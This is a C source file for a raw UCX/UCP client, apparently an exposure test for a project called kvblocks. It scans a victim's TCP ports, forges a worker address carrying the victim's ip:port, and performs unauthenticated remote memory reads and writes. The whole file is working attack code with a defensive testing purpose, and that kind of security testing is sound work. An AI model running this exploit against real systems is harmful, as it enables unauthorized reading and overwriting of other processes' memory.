// SPDX-License-Identifier: Apache-2.0
// A raw UCP client: what anyone on the network can do to a UCX worker without kvblocks. It knows no
// token, link or descriptor: it scans the victim's ports, forges a worker address by putting the
// victim's ip:port into its own (tcp only), connects, and gets/puts with an rkey made from its own
// memory. Built and run by tests/test_ucx_exposure.py.
//
// usage: ucx_raw_client VICTIM_IP PORT_LO PORT_HI OP...
//   OP: get:ADDR:LEN or put:ADDR:LEN:BYTE (ADDR in hex)
// Prints "open PORT" for each open port, then per port and op: "PORT OP ADDR ok HEX" (get: the
// bytes read) / "PORT OP ADDR ok" (put completed) / "PORT OP ADDR fail WHY".
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <ifaddrs.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <ucp/api/ucp.h>
#include <unistd.h>

static ucp_context_h g_ctx;
static ucp_worker_h g_worker;
static ucp_worker_h g_decoy;  // never progressed: lends its address (its UUID) to forge the victim's

static double Now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec * 1e-9;
}

// Open TCP ports of `ip` in [lo, hi]: non-blocking connects, 512 at a time.
static int Scan(const char *ip, int lo, int hi, int *out, int cap) {
  int n = 0;
  for (int base = lo; base <= hi; base += 512) {
    int fds[512], cnt = 0;
    for (int p = base; p <= hi && cnt < 512; ++p, ++cnt) {
      struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(p)};
      inet_pton(AF_INET, ip, &a.sin_addr);
      fds[cnt] = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
      connect(fds[cnt], (struct sockaddr *)&a, sizeof(a));
    }
    struct pollfd pf[512];
    for (int i = 0; i < cnt; ++i) pf[i] = (struct pollfd){fds[i], POLLOUT, 0};
    const double end = Now() + 0.5;
    for (int left = cnt; left > 0 && Now() < end;) {
      if (poll(pf, cnt, 50) <= 0) continue;
      for (int i = 0; i < cnt; ++i) {
        if (pf[i].fd < 0 || pf[i].revents == 0) continue;
        int err = 1;
        socklen_t len = sizeof(err);
        if (getsockopt(fds[i], SOL_SOCKET, SO_ERROR, &err, &len) == 0 && err == 0 && n < cap) out[n++] = base + i;
        pf[i].fd = -1;
        --left;
      }
    }
    for (int i = 0; i < cnt; ++i) close(fds[i]);
  }
  return n;
}

static int Contains(const unsigned char *a, size_t len, const void *what, size_t n) {
  for (size_t i = 0; i + n <= len; ++i)
    if (memcmp(a + i, what, n) == 0) return 1;
  return 0;
}

static unsigned char *AddressOf(ucp_worker_h w, size_t *len) {
  ucp_address_t *addr;
  if (ucp_worker_get_address(w, &addr, len) != UCS_OK) return NULL;
  unsigned char *a = malloc(*len);
  memcpy(a, addr, *len);
  ucp_worker_release_address(w, addr);
  return a;
}

// The tcp listening socket (ip, port) of the decoy worker: in its address, not in ours.
static int DecoyListener(const unsigned char *decoy, size_t dlen, const unsigned char *mine, size_t mlen,
                         struct sockaddr_in *out) {
  DIR *d = opendir("/proc/self/fd");
  struct dirent *e;
  int found = 0;
  while (d != NULL && (e = readdir(d)) != NULL && !found) {
    int fd = atoi(e->d_name), acc = 0;
    socklen_t len = sizeof(acc), alen = sizeof(*out);
    if (getsockopt(fd, SOL_SOCKET, SO_ACCEPTCONN, &acc, &len) == 0 && acc &&
        getsockname(fd, (struct sockaddr *)out, &alen) == 0 && out->sin_family == AF_INET &&
        Contains(decoy, dlen, &out->sin_port, 2) && !Contains(mine, mlen, &out->sin_port, 2))
      found = 1;
  }
  if (d != NULL) closedir(d);
  return found;
}

// The decoy worker's address (another UUID than ours) with its ip:port replaced by the victim's.
static void *Forge(const char *ip, int port, size_t *len) {
  size_t mlen;
  unsigned char *a = AddressOf(g_decoy, len), *mine = AddressOf(g_worker, &mlen);
  struct sockaddr_in own;
  const int ok = a != NULL && mine != NULL && DecoyListener(a, *len, mine, mlen, &own);
  free(mine);
  if (!ok) return NULL;
  struct in_addr victim;
  inet_pton(AF_INET, ip, &victim);
  uint16_t vport = htons(port);
  size_t i;
  for (i = 0; i + 4 <= *len && memcmp(a + i, &own.sin_addr, 4) != 0; ++i) {
  }
  if (i + 4 > *len) return NULL;
  memcpy(a + i, &victim, 4);
  for (; i + 2 <= *len && memcmp(a + i, &own.sin_port, 2) != 0; ++i) {
  }
  if (i + 2 > *len) return NULL;
  memcpy(a + i, &vport, 2);
  return a;
}

static void OnError(void *arg, ucp_ep_h ep, ucs_status_t st) { *(int *)arg = 1; }

// Waits for `req` at most `secs`; returns its status, or UCS_ERR_TIMED_OUT.
static ucs_status_t Wait(void *req, double secs) {
  if (req == NULL) return UCS_OK;
  if (UCS_PTR_IS_ERR(req)) return UCS_PTR_STATUS(req);
  double end = Now() + secs;
  ucs_status_t st;
  while ((st = ucp_request_check_status(req)) == UCS_INPROGRESS && Now() < end) ucp_worker_progress(g_worker);
  if (st != UCS_INPROGRESS) ucp_request_free(req);
  return st == UCS_INPROGRESS ? UCS_ERR_TIMED_OUT : st;
}

static void CloseEp(ucp_ep_h ep) {
  ucp_request_param_t p = {.op_attr_mask = UCP_OP_ATTR_FIELD_FLAGS, .flags = UCP_EP_CLOSE_FLAG_FORCE};
  void *r = ucp_ep_close_nbx(ep, &p);
  if (Wait(r, 2) == UCS_ERR_TIMED_OUT) fprintf(stderr, "slow close\n");
}

// One op on a fresh endpoint to ip:port; prints its outcome.
static void Attack(const char *ip, int port, const char *op) {
  char kind[8];
  unsigned long long addr;
  size_t len;
  unsigned byte = 0;
  if (sscanf(op, "%7[a-z]:%llx:%zu:%x", kind, &addr, &len, &byte) < 3 || len == 0 || len > 4096) {
    printf("%d %s bad-op\n", port, op);
    return;
  }
  const int get = strcmp(kind, "get") == 0;
  size_t alen;
  void *forged = Forge(ip, port, &alen);
  if (forged == NULL) {
    printf("%d %s fail cannot-forge-address\n", port, op);
    return;
  }
  int failed = 0;
  ucp_ep_params_t ep_p = {.field_mask = UCP_EP_PARAM_FIELD_REMOTE_ADDRESS | UCP_EP_PARAM_FIELD_ERR_HANDLING_MODE |
                                        UCP_EP_PARAM_FIELD_ERR_HANDLER,
                          .address = forged,
                          .err_mode = UCP_ERR_HANDLING_MODE_PEER,
                          .err_handler = {OnError, &failed}};
  ucp_ep_h ep;
  ucs_status_t st = ucp_ep_create(g_worker, &ep_p, &ep);
  free(forged);
  if (st != UCS_OK) {
    printf("%d %s fail ep_create:%s\n", port, op, ucs_status_string(st));
    return;
  }
  // An rkey made from our own memory: software RMA carries only the address.
  static unsigned char buf[4096];
  memset(buf, get ? 0 : byte, len);
  ucp_mem_map_params_t mp = {.field_mask = UCP_MEM_MAP_PARAM_FIELD_ADDRESS | UCP_MEM_MAP_PARAM_FIELD_LENGTH,
                             .address = buf, .length = sizeof(buf)};
  ucp_mem_h memh;
  void *packed;
  size_t plen;
  ucp_rkey_h rkey;
  ucp_mem_map(g_ctx, &mp, &memh);
  ucp_rkey_pack(g_ctx, memh, &packed, &plen);
  st = ucp_ep_rkey_unpack(ep, packed, &rkey);
  if (st == UCS_OK) {
    ucp_request_param_t p = {.op_attr_mask = 0};
    void *r = get ? ucp_get_nbx(ep, buf, len, addr, rkey, &p) : ucp_put_nbx(ep, buf, len, addr, rkey, &p);
    st = Wait(r, 3);
    if (st == UCS_OK) st = Wait(ucp_ep_flush_nbx(ep, &p), 3);
    ucp_rkey_destroy(rkey);
  }
  if (st == UCS_OK && !failed) {
    printf("%d %s ok ", port, op);
    for (size_t i = 0; get && i < len; ++i) printf("%02x", buf[i]);
    printf("\n");
  } else {
    printf("%d %s fail %s%s\n", port, op, ucs_status_string(st), failed ? " (endpoint failed)" : "");
  }
  fflush(stdout);
  CloseEp(ep);
  ucp_rkey_buffer_release(packed);
  ucp_mem_unmap(g_ctx, memh);
}

// The interface our route to `ip` leaves by: the only one our worker uses (one tcp address to forge).
static int RouteDevice(const char *ip, char *name, size_t cap) {
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(9)}, me;
  socklen_t len = sizeof(me);
  inet_pton(AF_INET, ip, &a.sin_addr);
  int fd = socket(AF_INET, SOCK_DGRAM, 0), found = 0;
  if (connect(fd, (struct sockaddr *)&a, sizeof(a)) != 0 || getsockname(fd, (struct sockaddr *)&me, &len) != 0) {
    close(fd);
    return 0;
  }
  close(fd);
  struct ifaddrs *all, *i;
  if (getifaddrs(&all) != 0) return 0;
  for (i = all; i != NULL && !found; i = i->ifa_next)
    if (i->ifa_addr != NULL && i->ifa_addr->sa_family == AF_INET &&
        ((struct sockaddr_in *)i->ifa_addr)->sin_addr.s_addr == me.sin_addr.s_addr) {
      snprintf(name, cap, "%s", i->ifa_name);
      found = 1;
    }
  freeifaddrs(all);
  return found;
}

int main(int argc, char **argv) {
  if (argc < 5) {
    fprintf(stderr, "usage: %s VICTIM_IP PORT_LO PORT_HI OP...\n", argv[0]);
    return 2;
  }
  setvbuf(stdout, NULL, _IOLBF, 0);
  ucp_params_t p = {.field_mask = UCP_PARAM_FIELD_FEATURES, .features = UCP_FEATURE_RMA};
  ucp_worker_params_t wp = {.field_mask = 0};
  char dev[64];
  ucp_config_t *cfg;
  if (!RouteDevice(argv[1], dev, sizeof(dev)) || ucp_config_read(NULL, NULL, &cfg) != UCS_OK) return 1;
  ucp_config_modify(cfg, "NET_DEVICES", dev);
  ucp_config_modify(cfg, "TLS", "tcp");
  if (ucp_init(&p, cfg, &g_ctx) != UCS_OK || ucp_worker_create(g_ctx, &wp, &g_worker) != UCS_OK ||
      ucp_worker_create(g_ctx, &wp, &g_decoy) != UCS_OK) {
    fprintf(stderr, "UCX set-up failed\n");
    return 1;
  }
  int ports[256];
  const int n = Scan(argv[1], atoi(argv[2]), atoi(argv[3]), ports, 256);
  for (int i = 0; i < n; ++i) printf("open %d\n", ports[i]);
  for (int i = 0; i < n; ++i)
    for (int j = 4; j < argc; ++j) Attack(argv[1], ports[i], argv[j]);
  printf("done\n");
  return 0;
}
